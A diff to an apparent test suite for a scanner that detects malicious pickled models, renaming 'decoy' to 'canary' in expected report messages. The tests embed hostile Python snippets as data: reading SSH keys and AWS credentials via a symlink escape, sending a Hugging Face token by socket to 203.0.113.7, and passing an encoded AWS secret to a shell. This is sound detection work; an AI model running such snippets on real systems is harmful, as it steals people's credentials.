@@ -20,12 +20,12 @@ function told(report: ScanReport, rule: string): string {
     .join('\n');
 }
 
-describe('touching a decoy names what would have been stolen', () => {
+describe('touching a canary names what would have been stolen', () => {
   it('an SSH key', async () => {
     const report = await scan(model('hostile', 'reads-ssh-key.pkl'));
     expect(report.verdict).toBe('malicious');
     expect(told(report, 'DYN-CRED-SSH')).toContain(
-      'opens /home/model/.ssh/id_rsa for reading. It worked. What it got is a decoy of this scan: an SSH private key.',
+      'opens /home/model/.ssh/id_rsa for reading. It worked. What it got is a canary of this scan: an SSH private key.',
     );
     expect(told(report, 'DYN-THEFT-PROOF')).toBe('');
   });
@@ -36,7 +36,7 @@ describe('touching a decoy names what would have been stolen', () => {
       "import os\nos.symlink(os.path.expanduser('~/.aws'), '/tmp/a')\nopen('/tmp/a/credentials').read()",
     );
     expect(told(report, 'DYN-LINK-ESCAPE')).toContain('/tmp/a');
-    expect(told(report, 'DYN-CRED-TOKEN')).toContain('a decoy of this scan: AWS access keys.');
+    expect(told(report, 'DYN-CRED-TOKEN')).toContain('a canary of this scan: AWS access keys.');
   });
 
   it('documents that are locked for ransom', async () => {
@@ -57,7 +57,7 @@ describe('proof of theft says what was taken, where it went and how', () => {
       `import os, socket\n${token}s = socket.socket()\ns.connect(('203.0.113.7', 443))\ns.sendall(t.encode())`,
     );
     expect(told(report, 'DYN-THEFT-PROOF')).toMatch(
-      /takes a Hugging Face token \(\/home\/model\/\.cache\/huggingface\/token\), a decoy of this scan, and sends it to 203\.0\.113\.7 port 443, as it is\./,
+      /takes a Hugging Face token \(\/home\/model\/\.cache\/huggingface\/token\), a canary of this scan, and sends it to 203\.0\.113\.7 port 443, as it is\./,
     );
     expect(report.conversations).toContainEqual(
       expect.objectContaining({
@@ -74,7 +74,7 @@ describe('proof of theft says what was taken, where it went and how', () => {
       "import os, base64\nos.system('echo ' + base64.b64encode(os.environ['AWS_SECRET_ACCESS_KEY'].encode()).decode())",
     );
     expect(told(report, 'DYN-THEFT-PROOF')).toMatch(
-      /takes the environment variable AWS_SECRET_ACCESS_KEY, a decoy of this scan, and hands it to a program: .*, in Base64\./,
+      /takes the environment variable AWS_SECRET_ACCESS_KEY, a canary of this scan, and hands it to a program: .*, in Base64\./,
     );
   });
 
